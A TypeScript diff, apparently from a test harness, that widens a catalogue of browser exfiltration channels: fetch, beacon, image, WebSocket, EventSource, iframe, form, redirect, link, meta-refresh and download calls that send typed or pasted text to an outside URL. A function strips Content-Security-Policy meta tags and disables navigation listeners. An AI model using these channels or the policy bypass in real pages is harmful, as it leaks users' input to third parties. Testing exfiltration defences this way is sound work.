@@ -8,22 +8,23 @@ export type Leak = (text: string, elsewhere: string) => unknown;
 export type Seal = "on" | "taken out";
 
 /** What leaves the page without leaving it behind. */
-export const SENDING: Record<string, Leak> = {
+export const SENDING = {
   "fetch": (text, elsewhere) => fetch(elsewhere, { method: "POST", mode: "no-cors", body: text }),
   "beacon": (text, elsewhere) => navigator.sendBeacon(elsewhere, text),
   "image": (text, elsewhere) => (new Image().src = `${elsewhere}?${encodeURIComponent(text)}`),
   "socket": (text, elsewhere) =>
     new WebSocket(`${elsewhere.replace("http", "ws")}?${btoa(String.fromCharCode(...new TextEncoder().encode(text)))}`),
-  "events": (text, elsewhere) => new EventSource(`${elsewhere}?${[...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`),
+  "events": (text, elsewhere) =>
+    new EventSource(`${elsewhere}?${[...new TextEncoder().encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`),
   "prefetch": (text, elsewhere) =>
     document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${elsewhere}?${encodeURIComponent(text)}` })),
   "script": (text, elsewhere) => document.head.append(Object.assign(document.createElement("script"), { src: `${elsewhere}?${escape(text)}` })),
   "frame": (text, elsewhere) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${elsewhere}?${encodeURIComponent(text)}` })),
   "header": (text) => fetch("./", { headers: { "x-story": encodeURIComponent(text) } }),
-};
+} satisfies Record<string, Leak>;
 
 /** What leaves it behind, or loads it anew. */
-export const LEAVING: Record<string, Leak> = {
+export const LEAVING = {
   "form": (text, elsewhere) => {
     const form = Object.assign(document.createElement("form"), { method: "post", action: elsewhere });
     form.append(Object.assign(document.createElement("input"), { name: "story", value: text }));
@@ -39,8 +40,16 @@ export const LEAVING: Record<string, Leak> = {
     location.reload();
   },
   "location": (text, elsewhere) => (location.href = `${elsewhere}?${encodeURIComponent(text)}`),
+  "link": (text, elsewhere) =>
+    Object.assign(document.createElement("a"), { target: "_blank", href: `${elsewhere}?${encodeURIComponent(text)}` }).click(),
+  "refresh": (text, elsewhere) =>
+    document.head.append(
+      Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0; url=${elsewhere}?${encodeURIComponent(text)}` }),
+    ),
+  "download": (text, elsewhere) =>
+    Object.assign(document.createElement("a"), { download: "", href: `${elsewhere}?${encodeURIComponent(text)}` }).click(),
   "window": (text, elsewhere) => window.open(`${elsewhere}?${encodeURIComponent(text)}`),
-};
+} satisfies Record<string, Leak>;
 
 /** A build in which all that is typed, chosen or pasted goes to these leaks. `tried` in the window names those that have run. */
 export function planted(leaks: Record<string, Leak>, elsewhere: string, seal: Seal): Alter {
@@ -70,9 +79,12 @@ export function planted(leaks: Record<string, Leak>, elsewhere: string, seal: Se
   };
 }
 
-/** Takes the power from every tag with a policy, and from whatever listens to navigation. It runs in the page, before the app. */
+/**
+ * Takes the power from every tag with a policy and from whatever listens to navigation, and lets nothing be taken off the window.
+ * It runs in the page, before the app.
+ */
 function unseal() {
-  const harmless = (node: unknown) => !(node instanceof HTMLMetaElement);
+  const harmless = (node: unknown) => !(node instanceof HTMLMetaElement && /^content-security-policy$/i.test(node.httpEquiv));
   const { appendChild, insertBefore } = Node.prototype;
   const { append, prepend } = Element.prototype;
   Object.assign(Node.prototype, {
@@ -91,5 +103,6 @@ function unseal() {
       prepend.apply(this, nodes.filter(harmless));
     },
   });
+  Object.defineProperty(window, "open", { value: window.open, configurable: false });
   if ("navigation" in window) Object.assign(window.navigation as object, { addEventListener() {} });
 }
